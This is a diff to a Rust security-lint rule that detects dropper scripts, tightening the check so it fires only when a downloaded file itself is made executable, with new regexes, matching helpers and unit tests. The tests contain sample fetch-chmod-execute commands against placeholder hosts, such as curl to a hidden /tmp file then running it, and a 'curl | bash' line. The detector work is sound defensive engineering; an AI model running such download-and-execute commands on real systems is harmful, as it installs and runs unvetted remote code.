@@ -42,7 +42,10 @@ declare_rule! {
 
 declare_rule! {
     /// ## What it does
-    /// Fires when one script or code block downloads a file, makes it executable and runs it.
+    /// Fires when one script or code block downloads a file, makes it executable and runs it:
+    /// the file made executable is the one downloaded (its name, or the variable holding it, is
+    /// on the `chmod` line). A script that fetches an archive and marks its own helper
+    /// executable elsewhere is not a dropper.
     ///
     /// ## Why is this risky?
     /// Download, `chmod +x`, execute is how droppers install second stages; nothing about the
@@ -434,6 +437,87 @@ static MAKE_EXECUTABLE: LazyLock<Regex> = LazyLock::new(|| {
     crate::pattern::compile(r"(?i)\bchmod\s+(\+x|[0-7]*[157][0-7]{2}\b|a\+x|u\+x)|os\.chmod\(|Start-Process|xattr\s+-d\s+com\.apple\.quarantine").unwrap()
 });
 
+/// Where the file's path follows a download command: `-o PATH`, `--output PATH`, `-O PATH`
+/// (wget), `-OutFile PATH`, `urlretrieve(url, PATH)`.
+static DOWNLOAD_TARGET: LazyLock<Regex> = LazyLock::new(|| {
+    crate::pattern::compile(
+        r#"(?i)(?:[\s'"]-[a-zA-Z]*[oO]|--output(?:-document)?|-OutFile)[\s'",=]+([^\s'",;|&)]+)|urlretrieve\([^,)]*,\s*(?:[a-z]?["'])?([^\s'",)]+)"#,
+    )
+    .unwrap()
+});
+static URL_PATH: LazyLock<Regex> =
+    LazyLock::new(|| crate::pattern::compile(r#"https?://[^\s'"|;&)]+"#).unwrap());
+
+/// The name a download is saved under, as it would appear on a later `chmod` line: the last
+/// path component of the output file (or the URL's, for `curl -O` and wget without `-O`), or
+/// the variable the path is held in.
+fn saved_name(download: &str) -> Option<String> {
+    let explicit = DOWNLOAD_TARGET
+        .captures_iter(download)
+        .find_map(|c| c.get(1).or_else(|| c.get(2)))
+        .map(|m| m.as_str());
+    let path = match explicit {
+        // `-o -` writes to stdout: nothing lands on disk.
+        Some("-") => return None,
+        Some(path) => path,
+        None => URL_PATH.find(download)?.as_str(),
+    };
+    let path = path.trim_end_matches('/');
+    let name = path.rsplit(['/', '\\']).next().unwrap_or(path);
+    let name = name.trim_start_matches(['$', '{']).trim_end_matches('}');
+    (name.len() >= 2).then(|| name.to_string())
+}
+
+/// The first download in `text` whose saved file a `chmod +x` (or `os.chmod`, `Start-Process`,
+/// quarantine removal) line names.
+fn dropped_and_made_executable(text: &str) -> Option<regex::Match<'_>> {
+    let line_end = |at: usize| text[at..].find('\n').map_or(text.len(), |i| at + i);
+    let marked: Vec<&str> = MAKE_EXECUTABLE
+        .find_iter(text)
+        .map(|m| {
+            let start = text[..m.start()].rfind('\n').map_or(0, |i| i + 1);
+            &text[start..line_end(m.start())]
+        })
+        .collect();
+    if marked.is_empty() {
+        return None;
+    }
+    DOWNLOAD_TO_FILE.find_iter(text).find(|d| {
+        saved_name(&text[d.start()..line_end(d.start())])
+            .is_some_and(|name| marked.iter().any(|m| names(m, &name)))
+    })
+}
+
+/// Whether a `chmod` line names `file`: literally, or by a `*` pattern (`chmod +x dir/*.sh`).
+fn names(line: &str, file: &str) -> bool {
+    line.contains(file)
+        || line
+            .split(|c: char| c.is_whitespace() || "'\"(),".contains(c))
+            .filter_map(|token| token.rsplit('/').next())
+            .filter(|last| last.contains('*'))
+            .any(|pattern| wildcard_match(pattern, file))
+}
+
+/// `*` matches any run of characters; everything else matches itself.
+fn wildcard_match(pattern: &str, text: &str) -> bool {
+    let mut parts = pattern.split('*');
+    let first = parts.next().unwrap_or("");
+    let Some(mut rest) = text.strip_prefix(first) else {
+        return false;
+    };
+    let parts: Vec<&str> = parts.collect();
+    for (i, part) in parts.iter().enumerate() {
+        if i + 1 == parts.len() {
+            return rest.ends_with(part);
+        }
+        match rest.find(part) {
+            Some(at) => rest = &rest[at + part.len()..],
+            None => return false,
+        }
+    }
+    rest.is_empty()
+}
+
 fn unit_of<'a>(units: &'a [Unit], f: &Finding) -> Option<&'a Unit> {
     let line = f.line?;
     units
@@ -576,10 +660,7 @@ pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
         }
     }
     for unit in units.iter().filter(|u| u.lang != Language::Prose) {
-        if let (Some(d), Some(_)) = (
-            DOWNLOAD_TO_FILE.find(&unit.text),
-            MAKE_EXECUTABLE.find(&unit.text),
-        ) {
+        if let Some(d) = dropped_and_made_executable(&unit.text) {
             let (line, col) = unit.position(d.start());
             let mut f = finding(
                 &DownloadChmodExecute::INFO,
@@ -628,6 +709,37 @@ static ANONYMOUS_DROP: LazyLock<Regex> = LazyLock::new(|| {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_dropper_makes_the_downloaded_file_executable() {
+        let found = |text: &str| dropped_and_made_executable(text).map(|m| m.start());
+        assert_eq!(
+            found("curl -sS https://h.example/m -o /tmp/.bg && chmod +x /tmp/.bg && /tmp/.bg"),
+            Some(0)
+        );
+        assert!(found("wget https://h.example/dl/agent\nchmod 755 agent\n./agent").is_some());
+        assert!(found("curl -fsSLO https://h.example/x/tool.sh\nchmod +x ./tool.sh").is_some());
+        assert!(found("curl -L -o \"$BIN\" \"$URL\"\nchmod +x \"$BIN\"").is_some());
+        assert!(
+            found("run(['curl', '-s', '-o', '/tmp/.p', u])\nos.chmod('/tmp/.p', 0o755)").is_some()
+        );
+        assert!(found("urllib.request.urlretrieve(url, dest)\nos.chmod(dest, 0o755)").is_some());
+        assert!(
+            found("curl -o $D/run.sh \\\n  https://h.example/run.sh\nchmod +x $D/*.sh").is_some()
+        );
+        assert!(wildcard_match("*.sh", "run.sh") && wildcard_match("r*n*.sh", "run.sh"));
+        assert!(!wildcard_match("*.sh", "run.py") && !wildcard_match("x*", "run.sh"));
+        // A vendor archive fetched, and the script's own launcher marked executable.
+        assert!(
+            found("wget -q https://vendor.example/gw.zip\nunzip gw.zip\nchmod +x start.sh")
+                .is_none()
+        );
+        // `-o -` writes to stdout, in a message that is only printed.
+        assert!(
+            found("echo \"use: curl -o- https://h.example/install.sh | bash\"\nchmod +x \"$L\"")
+                .is_none()
+        );
+    }
 
     #[test]
     fn quoted_phrases_are_mentions() {
